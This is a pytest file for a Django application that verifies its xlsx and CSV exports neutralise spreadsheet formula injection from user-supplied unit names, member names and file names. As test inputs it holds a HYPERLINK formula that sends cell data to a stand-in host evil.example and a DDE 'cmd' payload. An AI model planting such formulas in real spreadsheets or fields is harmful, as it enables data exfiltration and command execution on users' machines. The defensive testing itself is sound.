"""Every spreadsheet Coso writes keeps user text as text: no formula from a hostile name.

The hostile strings are the issue's: a unit renamed to a HYPERLINK formula that would send the
neighbouring cell to another site, a member named like a DDE command, an uploaded file named
`=1+1.csv`. Every producer is listed in PRODUCERS; a new module that writes xlsx or csv without
being listed here (and exercised below) fails `test_every_producer_is_listed`.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from coso.core import spreadsheet
from coso.demo.loader import write_csv
from coso.meetings.models import AttendanceStatus
from coso.meetings.operations import close_meeting, plan_meeting, record_attendance
from coso.members.operations import admit_member
from coso.units.operations import rename_unit
from coso.web import imports
from coso.web.models import ImportJob, ImportKind
from tests.cast import Cast

UNIT_NAME = '=HYPERLINK("http://evil.example/?x="&B2,"Chi bộ 2")'
MEMBER_NAME = "=cmd|' /C calc'!A0"
FILE_NAME = "=1+1.csv"
OTHERS = ["+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]

ROOT = Path(__file__).resolve().parents[2]
# Module (relative to the repository) -> what it writes; each is exercised by a test below.
PRODUCERS = {
    "coso/meetings/reports.py": "activity report (xlsx)",
    "coso/web/imports.py": "import templates and import error report (xlsx)",
    "coso/demo/loader.py": "demo import files (csv)",
    "coso/demo/bench.py": "benchmark import files (csv)",
    "coso/demo/national_plan.py": "the whole-country 2025 reform plan (csv)",
    "coso/followup/reports.py": "tracking of a directive (xlsx)",
    "coso/quality/outputs.py": "quality classification summary (xlsx)",
}
# What builds a spreadsheet directly; only coso/core/spreadsheet.py may.
WRITERS = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|xlsxwriter|text/csv")


def _sources() -> dict[str, str]:
    return {
        str(p.relative_to(ROOT)): p.read_text(encoding="utf-8")
        for p in sorted((ROOT / "coso").rglob("*.py"))
    }


def test_every_producer_is_listed() -> None:
    sources = _sources()
    direct = sorted(n for n, text in sources.items() if WRITERS.search(text))
    assert direct == ["coso/core/spreadsheet.py"], (
        f"{direct}: build spreadsheets with coso.core.spreadsheet, never directly"
    )
    users = sorted(
        n
        for n, text in sources.items()
        if "coso.core.spreadsheet" in text or "from coso.core import spreadsheet" in text
    )
    assert users == sorted(PRODUCERS), (
        "a module writes spreadsheets without being listed (and tested) in PRODUCERS"
    )


def _cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_only(data: bytes, *expected: str) -> None:
    cells = _cells(data)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == [], f"formula cells: {formulas}"
    values = [c.value for c in cells if isinstance(c.value, str)]
    for text in expected:  # intact: same characters, no quote added in xlsx
        assert any(text in v for v in values), f"{text!r} not in the sheet"
    for cell in cells:
        if spreadsheet.looks_like_formula(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def test_helper_keeps_every_formula_start_as_text() -> None:
    rows = [[UNIT_NAME, MEMBER_NAME, FILE_NAME, *OTHERS, 42, -3, None, "Chi bộ 2"]]
    data = spreadsheet.xlsx_bytes(["a"] * 11, rows, "t")
    _assert_text_only(data, UNIT_NAME, MEMBER_NAME, FILE_NAME, *OTHERS[:-1])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    values = [c.value for c in sheet[2]]
    # A carriage return is stored as the OOXML escape `_x000D_`, which Excel reads back as the
    # character and openpyxl leaves as it is; the cell is text all the same.
    others = [*OTHERS[:-1], "_x000D_=1+1"]
    assert values == [UNIT_NAME, MEMBER_NAME, FILE_NAME, *others, 42, -3, None, "Chi bộ 2"]
    assert sheet["H2"].data_type == "s" and sheet["H2"].quotePrefix
    assert sheet["I2"].data_type == "n" and not sheet["K2"].quotePrefix  # numbers stay numbers


def test_activity_report_keeps_unit_and_member_names_as_text(cast: Cast) -> None:
    rename_unit(cast.B2, name=UNIT_NAME, on=dt.date(2023, 1, 1))
    admit_member(
        member_id="CAST-X",
        full_name=MEMBER_NAME,
        gender="male",
        birth_date=dt.date(1990, 1, 1),
        branch=cast.B,
        admitted_on=dt.date(2021, 3, 1),
    )
    absent = AttendanceStatus.ABSENT_UNEXCUSED
    for month in (1, 2, 3):  # absent without reason three months: a warning naming the member
        meeting = plan_meeting(cast.B, kind="regular", on=dt.date(2024, month, 10), place="Xã")
        statuses = {"CAST-B1": "present", "CAST-B2": "present", "CAST-X": absent}
        record_attendance(meeting, statuses)
        close_meeting(meeting)
    url = reverse("meetings:report_xlsx", args=["C"])
    response = cast.client("officer").get(url, {"from": "01/01/2024", "to": "31/12/2024"})
    assert response.status_code == 200
    _assert_text_only(response.content, UNIT_NAME, MEMBER_NAME)
    # The unit's name is a cell of its own, where Excel would have run it.
    names = [c for c in _cells(response.content) if c.value == UNIT_NAME]
    assert names and all(c.data_type == "s" and c.quotePrefix for c in names)


def test_classification_summary_keeps_unit_names_as_text(cast: Cast) -> None:
    from coso.quality.operations import classify_unit

    rename_unit(cast.B2, name=UNIT_NAME, on=dt.date(2023, 1, 1))
    classify_unit(cast.B2, year=2024, level="good", decision=None, on=dt.date(2024, 12, 20))
    url = reverse("quality:summary_xlsx", args=["C"])
    response = cast.client("officer").get(url, {"year": "2024"})
    assert response.status_code == 200
    _assert_text_only(response.content, UNIT_NAME)
    names = [c for c in _cells(response.content) if c.value == UNIT_NAME]
    assert names and all(c.data_type == "s" and c.quotePrefix for c in names)


def test_import_error_report_keeps_the_file_name_and_values_as_text(
    cast: Cast, settings: Any
) -> None:
    job = ImportJob.objects.create(
        kind=ImportKind.MEMBERS,
        user=cast.users["secretary"],
        file_name=FILE_NAME,
        path=str(Path(settings.VAR_DIR) / FILE_NAME),
        errors=[
            [FILE_NAME, 2, "full_name", MEMBER_NAME],
            [FILE_NAME, 3, "branch", UNIT_NAME],
            [FILE_NAME, 4, "x", "-1+1"],
        ],
    )
    client = cast.client("secretary")
    response = client.get(reverse("web:import_errors", args=[job.token]))
    assert response.status_code == 200
    _assert_text_only(response.content, FILE_NAME, MEMBER_NAME, UNIT_NAME, "-1+1")
    assert imports.errors_xlsx(job) and load_workbook(io.BytesIO(imports.errors_xlsx(job)))


@pytest.mark.parametrize("kind", [ImportKind.UNITS, ImportKind.MEMBERS])
def test_templates_have_no_formula(cast: Cast, kind: str) -> None:
    response = cast.client("officer").get(reverse("web:import_template", args=[kind]))
    assert response.status_code == 200
    _assert_text_only(response.content)


def test_csv_cells_that_would_run_start_with_a_quote(tmp_path: Path) -> None:
    hostile = [UNIT_NAME, MEMBER_NAME, FILE_NAME, *OTHERS]
    path = write_csv(tmp_path / "a.csv", ["x"] * 10, [[*hostile, "Chi bộ 2", "2024-01-01"]])
    with path.open(encoding="utf-8", newline="") as fh:
        _header, row = list(csv.reader(fh))
    assert row[: len(hostile)] == ["'" + v for v in hostile]
    assert row[-2:] == ["Chi bộ 2", "2024-01-01"]  # ordinary text untouched
    out = io.StringIO()
    spreadsheet.csv_writer(out).writerows([[MEMBER_NAME, 5, -5]])
    assert out.getvalue() == "'=cmd|' /C calc'!A0,5,-5\r\n"


def test_bench_files_use_the_safe_writer() -> None:
    text = (ROOT / "coso/demo/bench.py").read_text(encoding="utf-8")
    assert text.count("csv_writer(fh)") == 2 and "csv.writer(" not in text


def test_the_national_plan_uses_the_safe_writer() -> None:
    text = (ROOT / "coso/demo/national_plan.py").read_text(encoding="utf-8")
    assert "csv_writer(f)" in text and "csv.writer(" not in text


def test_directive_tracking_keeps_unit_names_and_titles_as_text(cast: Cast) -> None:
    from coso.core.dates import today
    from coso.followup import operations as followup

    rename_unit(cast.units["C2"], name=UNIT_NAME, on=dt.date(2023, 1, 1))
    directive = followup.register_directive(
        owner=cast.P,
        kind="directive",
        number=FILE_NAME,
        issued_on=today() - dt.timedelta(days=10),
        issuer="Tỉnh ủy",
        title=MEMBER_NAME,
    )
    followup.cascade_directive(directive, cast.P, ["branch"], today())
    response = cast.client("officer").get(
        reverse("followup:tracking_xlsx", args=[directive.pk, "P"])
    )
    assert response.status_code == 200
    _assert_text_only(response.content, UNIT_NAME)
    values = {c.value for c in _cells(response.content)}
    assert any(isinstance(v, str) and MEMBER_NAME in v and FILE_NAME in v for v in values)


def test_columns_are_sized_to_their_longest_text_and_dates_stay_dates() -> None:
    long_name = "Chi bộ thôn Tân Mỹ, xã Hoàn Lão"
    at = dt.datetime(2025, 7, 1, 8, 30, tzinfo=dt.timezone(dt.timedelta(hours=7)))
    rows = [["B1", long_name, dt.date(2025, 7, 1)], ["B2", "x" * 200, None], ["B3", "", at]]
    sheet = load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(["mã", "tên", "ngày"], rows, "t")))["t"]
    widths = {c: sheet.column_dimensions[c].width for c in "ABC"}
    # Excel stores a little padding beside the width asked for: 10 (the least), 60 (the most).
    assert 10 <= widths["A"] < 11 and 60 <= widths["B"] < 61 and 18 <= widths["C"] < 19
    assert (
        sheet["C2"].value == dt.datetime(2025, 7, 1) and sheet["C2"].number_format == "dd/mm/yyyy"
    )
    assert sheet["C3"].value is None
    assert sheet["C4"].value == dt.datetime(2025, 7, 1, 8, 30)  # as given, without its zone
    assert sheet["C4"].number_format == "dd/mm/yyyy hh:mm"
